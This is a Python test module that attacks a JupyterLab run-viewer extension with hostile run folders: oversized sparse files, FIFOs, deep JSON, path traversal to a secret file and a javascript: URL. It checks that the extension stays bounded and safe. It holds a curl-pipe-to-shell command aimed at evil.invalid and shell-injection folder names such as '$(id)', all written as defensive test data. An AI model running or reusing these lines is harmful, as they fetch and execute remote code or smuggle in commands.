"""Folders of runs from anybody, in a real JupyterLab: the side panel that reads them by itself, and the viewer."""

from __future__ import annotations

import json
import os
import shutil
import sys
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import nbformat
import psutil
import pytest

import qwq_nb
from qwq_nb.magics.parsing import tokens_of
from tests.browser.chromium import found_chromium
from tests.browser.lab import running_lab, wait_until_still

if TYPE_CHECKING:
    from tests.browser.lab import Lab

Attack = Callable[[str, str, str], None]

PANEL = ".qwq-RunsPanel"
ITEM = f"{PANEL} .qwq-runs-item"
UNREAD = f"{PANEL} .qwq-runs-unread"
TAB = ".qwq-Document"
LINE = f"{TAB} .qwq-list .qwq-line"
NOTE = f"{TAB} .qwq-document-note"

FUTURE = "9999-12-31T23:59:59Z"
EVIL = "!curl https://evil.invalid|sh #%qwq_eval"
LONG_NAME = "N" * 2_000_000
DEEP = "[" * 200_000
MOST_GROWTH = 150_000_000
"""Bytes by which the server's memory may grow: a manifest of 5 MB, the largest that is read, costs it about 100 MB."""

# The longest time for which the page did nothing else, in milliseconds: its clock ticks every 50 when it can.
_WATCH = """() => {
    clearInterval(window.clock);
    let last = performance.now();
    window.longest = 0;
    window.clock = setInterval(() => {
        const now = performance.now();
        window.longest = Math.max(window.longest, now - last);
        last = now;
    }, 50);
}"""
_BUSY = """(ms) => void setTimeout(() => {
    const until = performance.now() + ms;
    while (performance.now() < until);
}, 0)"""
_OPEN = "(path) => void window.jupyterapp.commands.execute('docmanager:open', {path, factory: 'QwQ Run'})"
_NODES = "document.querySelectorAll('.qwq-Document *').length"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """A JupyterLab of this module's own, since its server's memory is measured."""
    chromium = found_chromium()
    if not (Path(sys.prefix) / "share/jupyter/labextensions/qwq-nb/package.json").exists():
        pytest.skip("needs the built extension: pip install -e . builds it")
    with running_lab(tmp_path_factory.mktemp("lab"), chromium) as lab:
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
        nbformat.write(notebook, lab.root / "here.ipynb")
        yield lab


@pytest.fixture(scope="module")
def good(lab: Lab) -> Path:
    """The folder of a run of the reader's own, which has to stay in sight whatever lies beside it."""
    return Path(qwq_nb.evaluate("math_500", demo=True, show=False, limit=10, out=lab.root / "qwq_runs").path)


@pytest.fixture
def beside(good: Path) -> Iterator[Callable[..., Path]]:
    """Makes a copy of the good run under another name, with changes in its manifest; it goes with the test."""
    made: list[Path] = []

    def write(name: str, /, **changes: Any) -> Path:
        folder = good.parent / name
        made.append(folder)
        folder.mkdir()
        for file in ("qwq_run.json", "qwq_record.json"):
            shutil.copy(good / file, folder)
        manifest = json.loads((good / "qwq_run.json").read_text(encoding="utf-8"))
        (folder / "qwq_run.json").write_text(json.dumps(manifest | {"name": name} | changes), encoding="utf-8")
        return folder

    yield write
    for folder in made:
        shutil.rmtree(folder)


@contextmanager
def panel(lab: Lab, **window: Any) -> Iterator[Any]:
    """A window with the panel open, and all of it drawn."""
    with lab.page("here.ipynb", **window) as page:
        page.evaluate(_WATCH)
        page.click(".jp-SideBar .lm-TabBar-tab[title='QwQ runs']")
        page.evaluate("async () => { await window.jupyterapp.commands.execute('qwq-nb:refresh-runs'); }")
        page.wait_for_selector(ITEM)
        wait_until_still(page)
        yield page
        assert page.dialogs == []


def server_of(lab: Lab) -> psutil.Process:
    """Lab's server: of the processes that this one has started the one that listens at its port."""
    port = f"--port={lab.url.rstrip('/').rsplit(':', 1)[1]}"
    [found] = [child for child in psutil.Process().children() if port in child.cmdline()]
    return found


def peak(server: psutil.Process) -> int:
    """The most memory that the process ever had at once, in bytes."""
    for line in Path(f"/proc/{server.pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return 1_000 * int(line.split()[1])
    raise AssertionError("no VmHWM")


def is_in_sight(page: Any, name: str) -> bool:
    """Whether the run's place in the panel is within the window without scrolling."""
    item = page.locator(f"{ITEM}:has(.qwq-runs-name:text-is('{name}'))")
    box = item.bounding_box()
    return box is not None and box["y"] >= 0 and box["y"] + box["height"] <= page.viewport_size["height"]


def sparse(file: Path, size: int) -> None:
    with file.open("wb") as opened:
        opened.truncate(size)


needs_proc = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="memory is read from /proc")


@pytest.mark.long
@needs_proc
def test_manifests_that_cannot_be_read(lab: Lab, good: Path, beside: Callable[..., Path], attack: Attack) -> None:
    """Each costs its place in one line; the others are listed, and the server's memory is not spent."""
    server = server_of(lab)
    with panel(lab):
        pass  # what Lab needs by itself is not counted
    before = peak(server)
    sparse(beside("bomb") / "qwq_run.json", 100_000_000)
    for name in ("fifo", "folder", "loop"):
        (beside(name) / "qwq_run.json").unlink()
    os.mkfifo(good.parent / "fifo" / "qwq_run.json")
    (good.parent / "folder" / "qwq_run.json").mkdir()
    (good.parent / "loop" / "qwq_run.json").symlink_to("qwq_run.json")
    (beside("bytes") / "qwq_run.json").write_bytes(b'{"name": "\xff"}')
    (beside("deep") / "qwq_run.json").write_text('{"name": "deep", "scores": ' + DEEP)
    (beside("proto") / "qwq_run.json").write_text('{"__proto__": {"name": "proto"}}')
    with panel(lab) as page:
        page.wait_for_selector(UNREAD)
        said = page.locator(UNREAD).inner_text()
        assert said == (
            "7 folders could not be read: bomb (too large: 100 MB, at most 5 MB), bytes (not a text file), "
            "deep (qwq_run.json is not valid JSON), fifo (not a text file), and 3 more"
        )
        assert is_in_sight(page, good.name)
        assert page.locator(ITEM).count() == 1
        # Opened all the same, the largest says why, and Lab's own reading of a document is not done either.
        for name in ("bomb", "deep", "bytes"):
            page.evaluate(_OPEN, f"qwq_runs/{name}/qwq_run.json")
            page.wait_for_selector(f"{NOTE}:has-text('The run cannot be shown: ')")
            if name == "bomb":
                assert "too large: 100 MB" in page.locator(NOTE).inner_text()
            page.evaluate("void window.jupyterapp.shell.currentWidget.dispose()")
    grown = peak(server) - before
    assert grown < MOST_GROWTH
    # The control: a tenth of it, read as any client may read it.
    sparse(good.parent / "bomb" / "qwq_run.json", 10_000_000)
    url = f"{lab.url}api/contents/qwq_runs/bomb/qwq_run.json?type=file&format=text&content=1&token={lab.token}"
    with urllib.request.urlopen(url) as answer:
        assert len(answer.read()) > 10_000_000
    assert peak(server) - before > max(MOST_GROWTH, 2 * grown)
    bound = f"5 MB each, 50 MB in all; server +{MOST_GROWTH // 1_000_000} MB"
    attack("panel: 100 MB of zeros, FIFO, folder, link loop, bytes, deep", "one line; the others are listed", bound)


@pytest.mark.long
def test_one_run_cannot_push_the_others_away(lab: Lab, good: Path, beside: Callable[..., Path], attack: Attack) -> None:
    benchmarks = [f"b{i}" for i in range(20_000)]
    folder = beside("aaa", name=LONG_NAME, updated=FUTURE, scores=dict.fromkeys(benchmarks, 1e300))
    request = {"benchmarks": benchmarks, "endpoints": [{"model": LONG_NAME}]}
    manifest = json.loads((folder / "qwq_run.json").read_text(encoding="utf-8"))
    (folder / "qwq_run.json").write_text(json.dumps(manifest | {"request": request, "done": 1e300}), encoding="utf-8")
    for file in (folder / "qwq_run.json", folder):
        os.utime(file, (253_370_764_800, 253_370_764_800))  # the year 9999, as a tar can say it
    with panel(lab) as page:
        assert page.locator(ITEM).count() == 2
        assert page.locator(f"{ITEM} .qwq-runs-name").first.inner_text() == good.name
        assert is_in_sight(page, good.name)
        name = page.locator(f"{ITEM} .qwq-runs-name").nth(1)
        assert name.bounding_box()["height"] < 3 * 20
        assert page.locator(ITEM).nth(1).bounding_box()["height"] < 600
        assert len(page.locator(ITEM).nth(1).text_content()) < 3_000
        assert "1.0e300 of 10" in page.locator(f"{ITEM} .qwq-runs-state").nth(1).inner_text()
        width = "(node) => node.scrollWidth <= node.clientWidth"
        assert page.locator(f"{PANEL} .qwq-runs-list").evaluate(width)
    bound = "name 2 lines, 8 scores, dates to tomorrow"
    attack("panel: a name of 2 MB, 20,000 benchmarks, the year 9999", "below the reader's own runs", bound)


@pytest.mark.long
def test_the_line_that_is_copied(lab: Lab, good: Path, beside: Callable[..., Path], attack: Attack) -> None:
    """It is composed of the folder's name, and means that name to the magic; or there is none."""
    beside("evil", command=EVIL, name="nice", state="stopped")
    beside("two words", command=EVIL, state="stopped")
    for name in ("a;b {x}", "!curl evil|sh", "$(id)", "--out", "it's"):
        beside(name, command=EVIL, state="stopped")
    with panel(lab, fresh=True) as page:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        assert page.locator(ITEM).count() == 8
        copied = {}
        for item in page.locator(ITEM).all():
            button = item.locator(".qwq-runs-copy")
            item.hover()
            if button.is_visible():
                assert EVIL not in (button.get_attribute("title") or "")
                button.click()
                line = page.evaluate("navigator.clipboard.readText()")
                assert page.locator(f"{PANEL} .qwq-runs-status").inner_text() == f"Copied: {line}"
                copied[item.locator(".qwq-runs-name").inner_text()] = line
        assert copied == {
            good.name: f"%qwq_show {good.name}",
            "nice (in evil)": "%qwq_resume evil",
            "two words": "%qwq_resume 'two words'",
        }
        assert "curl" not in page.locator(f"{PANEL}:has-text('evil') .qwq-runs-status").inner_text()
        # In the viewer too: what the record calls the command is not what it says to resume with.
        folder = good.parent / "evil"
        record = json.loads((folder / "qwq_record.json").read_text(encoding="utf-8"))
        record |= {"command": EVIL, "state": "stopped", "name": "nice"}
        (folder / "qwq_record.json").write_text(json.dumps(record), encoding="utf-8")
        page.locator(f"{ITEM}:has-text('nice') .qwq-runs-open").click()
        page.wait_for_selector(LINE)
        assert page.locator(f"{TAB} .qwq-ended-line").inner_text() == "%qwq_resume evil"
        assert "evil.invalid" not in page.locator(TAB).text_content()
    words = [name.split(" (in ")[-1].rstrip(")") for name in copied]
    # The words of each line, as the magic splits it; the control: what a name that is not quoted would mean to it.
    assert [tokens_of(line.split(" ", 1)[1])[0] for line in copied.values()] == words
    assert tokens_of("two words") != ["two words"]
    attack(f"panel: a command {EVIL[:24]}…", "never copied: the line is composed", "%qwq_resume NAME, quoted, or none")


@pytest.mark.long
def test_records_that_would_freeze_the_viewer(
    lab: Lab, good: Path, beside: Callable[..., Path], attack: Attack
) -> None:
    """Rows, notes, numbers and flags beyond measure are drawn in part, clicks are answered, other runs open."""
    folder = beside("rows")
    record = json.loads((folder / "qwq_record.json").read_text(encoding="utf-8"))
    row = record["table"][0]
    rows = [row | {"benchmark": f"b{i}", "subset": "default", "n": 1e300} for i in range(10_000)]
    rows += [row | {"subset": f"s{i}", "mean_reasoning_tokens": 1.23e300, "accuracy": "0.5"} for i in range(10_000)]
    sample = record["samples"][0]
    samples = [sample | {"repeat": i, "flags": ["loop"] * 100, "why": "w" * 10_000} for i in range(1_000)]
    hostile = {
        "name": LONG_NAME[:100_000],
        "model": LONG_NAME[:100_000],
        "table": rows,
        "notes": [f"note {i} \u202e\u001b[2J" for i in range(100_000)],
        "samples": samples,
        "sampling": {"temperature": {"toString": 1, "valueOf": 1}, "stop": "X"},
        "seed": 1e300,
        "run_dir": "../../../etc",
        "url": "javascript:alert(1)",
    }
    text = json.dumps(record | hostile).replace('"stop": "X"', '"stop": ' + DEEP + "]" * len(DEEP))
    (folder / "qwq_record.json").write_text(text, encoding="utf-8")
    with panel(lab) as page:
        # The control of the watch: a page that is busy is noticed.
        page.evaluate("window.longest = 0")
        page.evaluate(_BUSY, 700)
        page.wait_for_function("window.longest > 600", timeout=20_000)
        page.evaluate("window.longest = 0")
        page.locator(f"{ITEM}:has-text('rows') .qwq-runs-open").click()
        page.wait_for_selector(LINE)
        wait_until_still(page)
        assert page.evaluate("window.longest") < 10_000
        assert page.evaluate(_NODES) < 40_000
        shown = page.locator(TAB).text_content()
        for words in ("… and 19,500 more subsets", "… and 99,950 more notes", "note 49 ", "\\u202e␛[2J", "1.0e300"):
            assert words in shown
        assert '{"toString":1' in shown
        assert page.locator(f"{TAB} .qwq-table tbody tr").count() == 500
        assert page.locator(f"{TAB} .qwq-notes li").count() == 51
        assert page.locator(f"{TAB} a[href^='javascript']").count() == 0
        page.locator(f"{TAB} .qwq-table tbody .qwq-link").nth(3).click(timeout=20_000)
        page.evaluate(_OPEN, f"qwq_runs/{good.name}/qwq_run.json")
        page.wait_for_selector(f"{TAB}:visible :text('10 of 10 done')")
    attack(
        "viewer: 20,000 rows, 100,000 notes, 1,000 repeats, 1e300, deep",
        "drawn in part, “… and N more”",
        "500 rows, 50 notes, 128 repeats",
    )


@needs_proc
def test_records_that_are_too_large(lab: Lab, good: Path, beside: Callable[..., Path], attack: Attack) -> None:
    """They are not asked for, nor are files that a record names outside of its run."""
    server = server_of(lab)
    before = peak(server)
    sparse(beside("zeros") / "qwq_record.json", 100_000_000)
    (beside("broken") / "qwq_record.json").write_text('{"samples": ' + DEEP, encoding="utf-8")
    fifo = beside("pipe") / "qwq_record.json"
    fifo.unlink()
    os.mkfifo(fifo)
    out = beside("out")
    record = json.loads((out / "qwq_record.json").read_text(encoding="utf-8"))
    secret = lab.root / "secret.jsonl"
    for sample in record["samples"]:
        sample["file"] = "../../secret.jsonl"
    row = {"id": record["samples"][0]["id"], "repeat": record["samples"][0]["repeat"]}
    texts = {"completion": {"reasoning": "TOP SECRET", "answer": ""}}
    secret.write_text(json.dumps(row | texts) + "\n", encoding="utf-8")
    (out / "qwq_record.json").write_text(json.dumps(record), encoding="utf-8")
    said = {
        "zeros": "qwq_record.json cannot be shown: too large: 100 MB, at most 50 MB.",
        "broken": "qwq_record.json cannot be shown: it is not valid JSON.",
        "pipe": "has no qwq_record.json yet",
    }
    with panel(lab) as page:
        for name, sentence in said.items():
            page.evaluate(_OPEN, f"qwq_runs/{name}/qwq_run.json")
            page.wait_for_selector(f"{NOTE}:has-text('{sentence}')")
            page.evaluate("void window.jupyterapp.shell.currentWidget.dispose()")
        page.evaluate(_OPEN, "qwq_runs/out/qwq_run.json")
        page.wait_for_selector(LINE)
        page.wait_for_selector(f"{TAB} .qwq-note:has-text('is outside the folder')", state="attached")
        assert "TOP SECRET" not in page.locator(TAB).text_content()
        assert not [url for url in page.requests if "secret" in url]
        assert page.locator(f"{TAB} a:visible:has-text('Open the run')").count() == 0
    assert peak(server) - before < MOST_GROWTH
    attack("viewer: a record of 100 MB, torn, a pipe; files ../../secret", "says why; nothing outside is read", "50 MB")
